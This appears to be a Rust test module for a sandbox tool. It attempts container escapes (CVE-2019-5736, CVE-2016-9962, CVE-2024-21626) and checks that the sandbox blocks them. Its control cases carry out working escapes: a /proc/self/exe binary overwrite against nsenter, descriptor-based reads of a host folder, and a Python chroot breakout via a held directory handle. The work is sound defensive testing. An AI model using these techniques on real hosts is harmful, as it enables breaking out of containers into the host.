//! What enters a sandbox is out of its reach, though it runs there for a moment. The control is
//! a program that enters without any of the guards: there the same attack succeeds.

use std::fs;
use std::io::Read;
use std::process::{Child, Command, Stdio};

use serde_json::{Value, json};

use crate::Shared;

/// Writes over what enters (CVE-2019-5736) and reads through its descriptors (CVE-2016-9962).
const OVERWRITE: &str = include_str!("overwrite.py");

/// How long the attack goes on when nobody ends it.
const SECONDS: &str = "120";

pub(super) fn program(shared: &Shared) -> Result<(), String> {
    let house = shared.house();
    let guest = house.lease("entering", &house.base(), &json!({}));
    // The kernel starts the program that enters once more, now as the interpreter of this.
    let script = "printf '#!/proc/self/exe\\n' >/tmp/again; chmod 755 /tmp/again";
    guest.bash(script).ok();
    let argv = [
        "exec",
        &guest.id,
        "--",
        "/usr/bin/python3",
        "-IBc",
        OVERWRITE,
        SECONDS,
        "/tmp/enough",
    ];
    let mut attack = house.inn().command(argv);
    let mut attack = Attack::begin(&mut attack);
    for _ in 0..30 {
        guest.with(&[], &["/tmp/again"]);
        guest.with(&["--cwd", "/proc/self/fd"], &["/usr/bin/true"]);
        guest.with(&["-t"], &["/usr/bin/true"]);
    }
    guest.with(&[], &["mkdir", "/tmp/enough"]).ok();
    let found = attack.end();
    assert!(found["seen"].as_u64() > Some(0), "it saw nothing: {found}");
    for what in ["taken", "written", "read"] {
        assert_eq!(found[what], json!([]), "{found}");
    }
    guest.comes_back_clean("swap");

    let found = unguarded(house.inn().path("entering"));
    assert!(
        found["written"]
            .as_array()
            .is_some_and(|written| !written.is_empty()),
        "the control: {found}"
    );
    assert_eq!(
        found["read"],
        json!(["of the host"]),
        "the control: {found}"
    );
    println!(
        "entering: without guards, {} is overwritten and a leaked folder is read",
        found["written"][0]
    );
    Ok(())
}

/// The same attack on a program that enters a pid namespace as it is, a folder of the host in hand.
fn unguarded(folder: std::path::PathBuf) -> Value {
    fs::create_dir_all(folder.join("leaked")).expect("a folder");
    fs::write(folder.join("leaked/secret"), "of the host").expect("written");
    let (entering, enough, again) = (
        folder.join("entering"),
        folder.join("enough"),
        folder.join("again"),
    );
    let nsenter = Command::new("sh")
        .args(["-c", "command -v nsenter"])
        .output()
        .expect("started");
    let nsenter = String::from_utf8(nsenter.stdout).expect("a path");
    fs::copy(nsenter.trim(), &entering).expect("copied");
    fs::write(&again, "#!/bin/sh\nsleep 0.1\n").expect("written");
    fs::set_permissions(&again, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("a mode");
    let mut attack = Command::new("unshare");
    attack
        .args([
            "--pid",
            "--fork",
            "--kill-child",
            "--mount-proc",
            "--",
            "python3",
            "-IBc",
            OVERWRITE,
            SECONDS,
        ])
        .arg(&enough);
    let mut attack = Attack::begin(&mut attack);
    let inside = attack.child.id();
    let children =
        fs::read_to_string(format!("/proc/{inside}/task/{inside}/children")).expect("it runs");
    let first = children.trim().to_owned();
    let shown = |name: &std::path::Path| name.to_str().expect("a plain path").to_owned();
    let before = fs::read(&entering).expect("readable");
    // It holds still inside for as long as its child runs, then ends, and can be written over.
    let line = format!(
        "exec 9<{}; {} -t {first} -p -- {}",
        shown(&folder.join("leaked")),
        shown(&entering),
        shown(&again)
    );
    while fs::read(&entering).expect("readable") == before {
        let ran = Command::new("bash")
            .args(["-c", &line])
            .output()
            .expect("started");
        assert!(
            ran.status.success() || fs::read(&entering).expect("readable") != before,
            "{ran:?}"
        );
    }
    fs::write(&enough, "").expect("written");
    attack.end()
}

/// A watcher that has begun.
struct Attack {
    child: Child,
    output: std::process::ChildStdout,
}

impl Attack {
    fn begin(command: &mut Command) -> Self {
        let mut child = command
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .expect("started");
        let mut output = child.stdout.take().expect("piped");
        output.read_exact(&mut [0; 9]).expect("it begins");
        Self { child, output }
    }

    fn end(&mut self) -> Value {
        let mut rest = String::new();
        self.output.read_to_string(&mut rest).expect("it ends");
        assert!(self.child.wait().expect("reaped").success());
        serde_json::from_str(&rest).expect("JSON")
    }
}

/// The current folder as a way out (CVE-2024-21626), by the command's option and by the template.
pub(super) fn folder(shared: &Shared) -> Result<(), String> {
    let house = shared.house();
    let base = house.base();
    let guest = house.lease("folder", &base, &json!({}));
    for number in 0..24 {
        let cwd = format!("/proc/self/fd/{number}");
        let ran = guest.with(
            &["--cwd", &cwd],
            &["bash", "-c", "ls -di . /; cat ../../../../etc/hostname"],
        );
        let inodes: Vec<_> = ran.stdout.split_whitespace().take(4).step_by(2).collect();
        assert!(
            ran.code != 0 || inodes.first() == inodes.last(),
            "{cwd}: {ran:?}"
        );
    }
    guest.comes_back_clean("swap");
    for workdir in [
        "/proc/self/fd/3",
        "/proc/self/fd/7",
        "/proc/1/cwd",
        "/proc/1/root",
    ] {
        let template =
            json!({"workdir": workdir, "env": {"INNKEEPER_TEST": format!("folder {workdir}")}});
        match innkeeper_test_local::Guest::try_lease(house.inn(), "folder", &base, &template) {
            Err(refused) => assert!(!refused.is_empty()),
            Ok(guest) => {
                let ran = guest.bash("pwd; ls -d /etc/innkeeper-host ../../etc/innkeeper-host");
                assert!(ran.code != 0, "{workdir}: {ran:?}");
                guest.discard();
            }
        }
    }
    // The control: a folder that is still open when the root is changed is a way out.
    let secret = house.inn().file("folder-secret", "of the host");
    let outside = secret.parent().expect("a folder").display().to_string();
    let program = format!(
        "import os; held = os.open('{outside}', os.O_RDONLY); os.mkdir('{outside}/jail'); os.chroot('{outside}/jail'); \
         os.chdir('/'); assert not os.path.exists('/folder-secret'); os.fchdir(held); print(open('folder-secret').read())"
    );
    let ran = Command::new("python3")
        .args(["-IBc", &program])
        .output()
        .expect("started");
    assert_eq!(ran.stdout, b"of the host\n", "the control: {ran:?}");
    Ok(())
}
